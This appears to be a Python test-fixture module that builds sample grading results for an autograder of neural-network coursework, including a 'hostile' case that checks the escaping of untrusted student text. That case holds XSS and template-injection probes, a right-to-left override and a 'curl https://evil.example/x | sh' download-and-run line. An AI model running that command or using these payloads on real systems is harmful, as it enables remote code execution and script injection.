"""Whole results: full marks, several losses, an unusable file, hostile text, a class."""

from __future__ import annotations

from graders.result import (
    CheckResult,
    Execution,
    ExerciseResult,
    FailedCell,
    LayerRow,
    ManualResult,
    NetworkEvidence,
    Outcome,
    Result,
    SubmissionInfo,
    TrainingSummary,
)

from .parts import (
    EDGES,
    NOTHING,
    ROWS,
    accuracy,
    adam_training,
    dense_network,
    dense_training,
    difference,
    exercise,
    grid,
    long_training,
    lost,
    negated,
    passed,
    read,
    result,
    shown_training,
    unread,
    unscaled_training,
    wrong_dense_network,
)

UNUSUALLY_HIGH = (
    "The Adam minus SGD of 0.064 is more than right solutions reach (up to 0.053). "
    "No points are taken; a person will look."
)


def make_full_marks() -> Result:
    exercises = [
        exercise("1a", "1", "Turn images into vectors", passed("1a", "Fits see 784 inputs")),
        exercise(
            "1b",
            "1",
            "Scale the pixels",
            passed("1b", "Pixels lie between 0 and 1"),
            manual=read(
                "Why do the pixel values have to be scaled before training?",
                "Large inputs make large gradients in the first layer.\nThen SGD overshoots.",
            ),
        ),
        exercise(
            "1c",
            "1",
            "A dense network with two hidden layers",
            passed("1c", "784-10-10-10 with relu, relu, softmax", 2, evidence=[dense_network()]),
        ),
        exercise("1d", "1", "Count its parameters", passed("1d", "8,070 parameters")),
        exercise(
            "1f",
            "1",
            "Train it for three epochs",
            passed("1f", "Three epochs, validated on the test set", evidence=[shown_training(0)]),
            passed("1f", "Test accuracy in range", evidence=[shown_training(0), accuracy(0.7713)]),
        ),
        exercise(
            "2a",
            "2",
            "Four convolutions",
            passed("2a", "Kx * IA", evidence=[grid("Kx * IA", EDGES, EDGES)]),
            passed("2a", "Ky * IA", evidence=[grid("Ky * IA", NOTHING, NOTHING)]),
            passed("2a", "Kx * IB", evidence=[grid("Kx * IB", NOTHING, NOTHING)]),
            passed("2a", "Ky * IB", evidence=[grid("Ky * IB", ROWS, ROWS)]),
        ),
        exercise("3c", "3", "Count the parameters again", passed("3c", "3,330 parameters")),
        exercise("4b", "4", "Adam instead of SGD", passed("4b", "Better than SGD"), bonus=True),
    ]
    return result("bianca.rossi", exercises, trainings=[dense_training(0), adam_training(1)])


def make_losses() -> Result:
    """Five checks lost in different ways, one that follows, an error, a hidden check."""
    exercises = [
        exercise("1a", "1", "Turn images into vectors", passed("1a", "Fits see 784 inputs")),
        exercise(
            "1b",
            "1",
            "Scale the pixels",
            lost(
                "1b",
                "The pixels that the networks see lie between 0 and 1",
                message="The networks were trained on pixels from 0 to 255.",
                expected="inputs between 0 and 1",
                found="inputs between 0 and 255 in all five trainings",
                where="cell 6",
                hint="Divide the images by 255 before `fit` sees them: `train_x / 255.0`.",
            ),
            manual=unread(
                "Why do the pixel values have to be scaled before training?",
                "Because neural networks like small numbers.\n\n"
                "With values up to 255 the loss was 2.3 the whole time and did not move, "
                "I think the weights\nget updates which are too large (dead ReLUs).",
                rubric=["1 point: links the size of the inputs to the weight updates."],
            ),
        ),
        exercise(
            "1c",
            "1",
            "A dense network with two hidden layers",
            lost(
                "1c",
                "The network is 784-10-10-10 with relu, relu, softmax",
                points=2,
                message="The nearest network has hidden layers of 20 units.",
                expected="`Dense 10 relu`, `Dense 10 relu`, `Dense 10 softmax`",
                found="`Dense 20 relu`, `Dense 20 relu`, `Dense 10 softmax`",
                where="cell 9",
                hint="Set `units=10` in both hidden layers.",
                evidence=[wrong_dense_network()],
            ),
            manual=unread("Why must the last layer have exactly 10 units?", None),
        ),
        exercise(
            "1d",
            "1",
            "Count its parameters",
            lost(
                "1d",
                "The answer is 8,070 parameters",
                score=1,
                message="16,330 is right for the network of 20 units that was built.",
                expected="8,070",
                found="16,330",
                where="cell 11",
                hint="Count once more after mending 1c.",
                follows_from="1c",
            ),
        ),
        exercise(
            "1f",
            "1",
            "Train it for three epochs",
            passed("1f", "Three epochs, validated on the test set", evidence=[shown_training(0)]),
            lost(
                "1f",
                "The test accuracy is where it should be",
                score=0.62,
                message="The network learned less than a correct one does.",
                expected="at least 0.761, the smallest of 20 right trainings",
                found="0.748, the best of three attempts",
                where="cell 12",
                hint="Are the pixels scaled to 0..1?",
                evidence=[shown_training(0), accuracy(0.7413, 0.7483, 0.7391)],
            ),
        ),
        exercise(
            "1h",
            "1",
            "Wider hidden layers",
            CheckResult(
                id="test_1_dense.py::test_wider",
                exercise="1h",
                title="Both hidden layers have 64 units",
                outcome=Outcome.NOT_ATTEMPTED,
                score=0,
                points=2,
                message="No network with layers 64-64-10 was built.",
                expected="`Dense 64 relu`, `Dense 64 relu`, `Dense 10 softmax`",
                hint="Build and train a second network with 64 units in each hidden layer.",
            ),
            CheckResult(
                id="test_1_dense.py::test_wider_is_better",
                exercise="1h",
                title="It beats the small network",
                outcome=Outcome.BLOCKED,
                score=0,
                points=1,
            ),
        ),
        exercise(
            "2a",
            "2",
            "Four convolutions",
            lost(
                "2a",
                "Kx * IA",
                message="The signs are those of a correlation: the kernel was not turned.",
                expected="a true convolution, the border repeated",
                found="the correlation of Kx and IA",
                where="cell 17",
                hint="Turn the kernel by 180 degrees, or use `scipy.ndimage.convolve`.",
                evidence=[grid("Kx * IA", EDGES, negated(EDGES))],
            ),
            passed("2a", "Ky * IA", evidence=[grid("Ky * IA", NOTHING, NOTHING)]),
            lost(
                "2a",
                "Ky * IB",
                expected="a 5 by 5 matrix",
                found="an array of shape (3, 3)",
                where="cell 17",
                hint="Repeat the border, so that the result is as large as the image.",
                evidence=[grid("Ky * IB", ROWS, None)],
            ),
        ),
        exercise(
            "2b",
            "2",
            "What the kernels see",
            manual=ManualResult(
                points=1,
                score=0.5,
                question="Which feature of an image does Kx respond to, and which one does Ky?",
                rubric=["1 point: vertical and horizontal edges.", "0.5 points: only edges."],
                answer="They find the edges in the picture.",
            ),
        ),
        exercise(
            "3a",
            "3",
            "Build a convolutional network",
            CheckResult(
                id="test_3_cnn.py::test_layers",
                exercise="3a",
                title="Two pairs of convolution and pooling, then ten outputs",
                outcome=Outcome.ERROR,
                score=0,
                points=3,
                message="KeyError: 'cnn.layers' in the expectations",
            ),
        ),
        exercise(
            "3b",
            "3",
            "Train it, and compare",
            lost(
                "3b",
                "The same network is trained on all items",
                message="SECRET-MESSAGE",
                expected="SECRET-EXPECTED",
                found="SECRET-FOUND",
                where="SECRET-WHERE",
                hint="SECRET-HINT",
                flag="SECRET-FLAG",
                hidden=True,
                evidence=[grid("SECRET-GRID", EDGES, EDGES)],
            ),
        ),
        exercise(
            "4b",
            "4",
            "Adam instead of SGD",
            passed(
                "4b",
                "Adam reaches a higher accuracy than SGD",
                evidence=[shown_training(2), difference(0.0644)],
                flag=UNUSUALLY_HIGH,
            ),
            bonus=True,
            manual=unread("Why does Adam reach a higher accuracy?", "It adapts the step size."),
        ),
    ]
    execution = Execution(
        status="timeout",
        message="The run was stopped after 30 minutes, in cell 31. What had run was graded.",
        cells=34,
        cells_failed=1,
        seconds=1800.0,
        device="cpu",
        isolation=["namespaces", "landlock", "limits"],
        failed_cells=[
            FailedCell(
                index=21,
                exercise="3a",
                error_type="ValueError",
                message=(
                    'Input 0 of layer "conv2d" is incompatible with the layer: expected '
                    "min_ndim=4, found ndim=3. Full shape received: (None, 28, 28)"
                ),
                traceback=(
                    "cell 21, line 8\n      6 cnn.compile(optimizer='sgd', loss=loss)\n"
                    "----> 8 cnn.fit(train_x, train_y, epochs=3)"
                ),
                source="cnn.compile(optimizer='sgd', loss=loss)\n\ncnn.fit(train_x, train_y)",
                hint="A convolution needs a channel: reshape the images to (n, 28, 28, 1).",
            )
        ],
        skipped_commands=["!pip install keras", "%cd /content"],
        cuts=["The output of cell 14 was cut after 20,000 characters."],
    )
    trainings = [
        unscaled_training(0),
        TrainingSummary(
            id=1,
            title="784-20-20-10, SGD 0.005, batch 32",
            exercise="1g",
            cell=14,
            items=60_000,
            epochs=1,
            batch_size=32,
            history={"accuracy": [0.62], "val_accuracy": [0.6931]},
            test_accuracy=0.6931,
            seconds=4.2,
            fingerprint="27e8b4a1f05c9d63" * 4,
            note="the training began with weights that were not trained in this submission",
        ),
        adam_training(2),
        long_training(3),
        TrainingSummary(
            id=4,
            title="784-64-64-10, SGD 10, batch 64",
            status="interrupted",
            epochs=3,
            batch_size=64,
            items=20_000,
            history={"loss": [2.4, None, float("nan")], "val_loss": [2.31, None, None]},
            note="the network is a class of the student's own (MyNetwork)",
        ),
    ]
    return result("alice.smith", exercises, trainings=trainings, execution=execution)


def make_unusable(student: str = "carl.unlucky") -> Result:
    sentence = (
        "notebook.ipynb: line 214 holds a git merge-conflict marker. Resolve the conflict (choose "
        "one version), check that the file opens and runs, and hand it in again."
    )
    execution = Execution(status="unusable", message=sentence)
    bare = [ExerciseResult(id="1a", section="1", title="Turn images", points=32, score=0)]
    return result(student, bare, execution=execution, data_sets=[])


HOSTILE = (
    "<script>alert(1)</script> {{7*7}} {% raw %} <b>x</b> \x1b[31mred\x1b[0m \x07| `a` _b_ *c*"
)


STRANGE = [float("nan"), float("inf"), -1e300, 1e300, 0.1]


def make_hostile() -> Result:
    """Every text that a student can influence is out to do harm."""
    long_word = "Donaudampfschifffahrtsgesellschaft" * 12
    right_to_left = "שלום עולם \u202e evil \u202c مرحبا"
    answer = "\n".join([HOSTILE, right_to_left, *(f"line {i}" for i in range(200)), long_word])
    exercises = [
        exercise(
            "1a",
            "1",
            "Turn images into vectors",
            lost(
                "1a",
                "Fits see 784 inputs",
                message=f"The variable {HOSTILE} was found.",
                expected="(60000, 784)",
                found=HOSTILE + long_word,
                where=HOSTILE,
                hint="Use `reshape`.",
                flag=HOSTILE + long_word,
                evidence=[
                    NetworkEvidence(
                        title=HOSTILE,
                        rows=[LayerRow(expected=None, found=HOSTILE + long_word, same=False)],
                        expected_parameters=None,
                        found_parameters=10**15,
                    ),
                    accuracy(*STRANGE, title=HOSTILE + long_word),
                    accuracy(title="nothing", reference=[], cutoff=float("nan"), chance=7),
                    grid(HOSTILE, EDGES, [[1e300, None, float("inf"), -0.123456, 1e-9]] * 5),
                    shown_training(0),
                    shown_training(99),
                ],
            ),
            manual=unread("Why?", answer),
        ),
        exercise("1b", "1", "Scale the pixels", manual=unread("Why?", right_to_left)),
    ]
    execution = Execution(
        status="stopped",
        message=HOSTILE,
        device=HOSTILE,
        isolation=[HOSTILE],
        failed_cells=[
            FailedCell(
                index=3,
                exercise=HOSTILE,
                error_type=HOSTILE,
                message=HOSTILE + "\n" + long_word,
                traceback=HOSTILE + "\n```\n# heading\n````\n",
                source=HOSTILE,
                hint=HOSTILE,
            )
        ],
        skipped_commands=["!curl https://evil.example/x | sh " + HOSTILE, "`" * 40],
        cuts=[HOSTILE],
    )
    training = TrainingSummary(
        id=0,
        title=HOSTILE,
        exercise=HOSTILE,
        status=HOSTILE,
        epochs=2,
        history={
            f"accuracy {HOSTILE}": [0.1, float("inf")],
            "loss": [float("nan"), 1e308],
            "val_loss": [-1e308, None],
        },
        fingerprint=HOSTILE,
        note=HOSTILE,
    )
    return result(
        HOSTILE,
        exercises,
        trainings=[training],
        execution=execution,
        files=[HOSTILE + ".ipynb"],
        environment={HOSTILE: {"nested": [HOSTILE]}},
    )


def make_class() -> list[Result]:
    """Fourteen submissions in no order, two of them broken."""
    full = make_full_marks().model_copy(update={"score": 33, "points": 32})
    losses = make_losses().model_copy(update={"score": 14.9, "points": 32})
    results = [full, losses, make_unusable("carl.unlucky")]
    for number, score in enumerate([31, 24.5, 18, 22, 29, 26, 12, 27, 30, 25], start=1):
        submission = SubmissionInfo(student=f"team {number}", files=["notebook.ipynb"])
        base = full if score > 25 else losses
        results.insert(0, base.model_copy(update={"submission": submission, "score": score}))
    broken = Execution(status="error", message="The process that ran it ended early (signal 9).")
    return [*results, result("dora", [], execution=broken)]
